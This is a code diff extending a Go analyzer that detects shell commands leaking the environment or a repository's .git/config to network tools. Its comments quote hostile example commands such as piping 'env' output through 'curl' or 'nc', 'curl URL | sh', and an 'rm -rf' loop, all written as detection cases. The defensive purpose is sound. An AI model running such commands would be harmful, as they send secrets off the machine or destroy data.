@@ -422,6 +422,11 @@ func (a *analyzer) subst(stmts []*syntax.Stmt) string {
 	switch c := stmts[0].Cmd.(type) {
 	case *syntax.CallExpr:
 		argv = a.fields(c.Args)
+	case *syntax.DeclClause:
+		if declDump(c) {
+			return "$(export -p)" // `$(export -p)`, `$(declare -x)`: the environment (det69)
+		}
+		return "$(...)"
 	case *syntax.BinaryCmd:
 		if ce, ok := cdThen(c); ok {
 			// `$(cd rust && cargo llvm-cov show-env --sh)`: what the second command prints
@@ -436,6 +441,11 @@ func (a *analyzer) subst(stmts []*syntax.Stmt) string {
 			if ce, ok := st.Cmd.(*syntax.CallExpr); ok && fetcher(base(first(a.fields(ce.Args)))) {
 				return remoteMarker
 			}
+		}
+		if a.envPipe(stages) {
+			// `< <(env | grep KEY)`, `$(printenv | cut -d= -f2)`: part of the environment,
+			// judged as all of it (det69)
+			return "$(env)"
 		}
 		if t, ok := a.decoded(stages); ok {
 			return t
@@ -765,6 +775,7 @@ func (a *analyzer) stmt(s *syntax.Stmt) {
 			a.heredocRun(argv, s.Redirs)
 			a.stdinScript(argv, s.Redirs)
 			a.cronHeredoc(argv, s.Redirs)
+			a.gitConfigSent(argv, s.Redirs) // exfil.go
 		}
 	case *syntax.FuncDecl:
 		if c.Name != nil && c.Body != nil {
@@ -905,7 +916,11 @@ func (a *analyzer) pipe(stages []*syntax.Stmt) {
 	var feed []string // paths the previous stage lists, for xargs
 	feedRec := false
 	text, haveText := "", false // what the previous stage prints, when echo or printf wrote it
+	envDump := false            // the previous stage prints the environment, or part of it (envStage)
+	gitFile := ""               // the .git/config an earlier stage prints (cat .git/config | nc H P)
 	for i, argv := range argvs {
+		prevEnv := envDump
+		envDump = envStage(argv, prevEnv)
 		if len(argv) == 0 {
 			// `ls -d ~ | while read d; do rm -rf "$d"; done`: the loop's body judged once
 			// for each line the stage before prints (flow.go).
@@ -914,8 +929,10 @@ func (a *analyzer) pipe(stages []*syntax.Stmt) {
 				a.readLoop(stages[i], feed)
 			case haveText:
 				a.readLoop(stages[i], lines(text))
-			case i > 0 && len(argvs[i-1]) > 0 && envOutput("$("+strings.Join(argvs[i-1], " ")+")"):
-				a.readLoop(stages[i], []string{"$(" + strings.Join(argvs[i-1], " ") + ")"}) // `env | while read l; …`
+			case prevEnv:
+				// `env | while read l; …`, and through filters (`env | grep AWS | while
+				// read l; …`: each line it reads is still a variable's; det69)
+				a.readLoop(stages[i], []string{"$(env)"})
 			}
 			feed, haveText = nil, false
 			// A subshell or a block (`( curl URL ) | sh`): what runs inside it is what it
@@ -959,8 +976,11 @@ func (a *analyzer) pipe(stages []*syntax.Stmt) {
 				text, haveText = printedByCode(lang, argv[1:])
 			}
 		}
-		if name == "xargs" && len(feed) > 0 {
+		switch {
+		case name == "xargs" && len(feed) > 0:
 			a.xargs(argv[1:], feed, feedRec)
+		case name == "xargs" && prevEnv:
+			a.xargs(argv[1:], []string{"$(env)"}, false) // `env | grep AWS | xargs -I{} curl -d {} URL` (det69)
 		}
 		feed, feedRec = a.lists(name, argv[1:])
 		if i > 0 && src != "" && interpreter(name) && (!runsFile(name, argv[1:]) || evalsStdin(name, argv[1:])) {
@@ -988,6 +1008,14 @@ func (a *analyzer) pipe(stages []*syntax.Stmt) {
 		if i > 0 && (src == "secrets") && network(name) {
 			a.add("exfil/pipe_to_network", "sends the environment or a secret file over the network", strings.Join(argv, " "), 0.95)
 		}
+		if i > 0 && src == "gitconfig" && network(name) {
+			a.gitConfigTo(gitFile, strings.Join(argv, " ")) // exfil.go (det69)
+		}
+		if i > 0 && src == "env" && network(name) {
+			// `echo "$(env)" | nc H P`, `v=$(env); echo "$v" | curl -d @- URL`: echo prints
+			// the environment it was given, as `curl -d "$(env)"` sends it (issue 26, det69).
+			a.add("exfil/env_to_network", "sends the environment over the network", strings.Join(argv, " "), 0.95)
+		}
 		if i > 0 && src == "project" && network(name) {
 			// `tar czf - . | ssh HOST 'cat > s.tgz'`, `git bundle create - --all | curl -T -
 			// URL`: the project's source leaves the machine (exfil.go projectArchive).
@@ -1013,6 +1041,13 @@ func (a *analyzer) pipe(stages []*syntax.Stmt) {
 			src = "secrets"
 		case src == "" && a.projectArchive(name, argv[1:]):
 			src = "project"
+		case src == "" && (name == "cat" || name == "head" || name == "tail" || name == "base64" || name == "gzip") && slices.ContainsFunc(operands(argv[1:]), gitConfig.MatchString):
+			src = "gitconfig"
+			gitFile = operands(argv[1:])[slices.IndexFunc(operands(argv[1:]), gitConfig.MatchString)]
+		case (name == "echo" || name == "printf") && slices.ContainsFunc(argv[1:], envSubst.MatchString):
+			if src == "" || src == "text" {
+				src = "env"
+			}
 		case name == "echo" || name == "printf" || name == "cat" || haveText:
 			if src == "" {
 				src = "text"
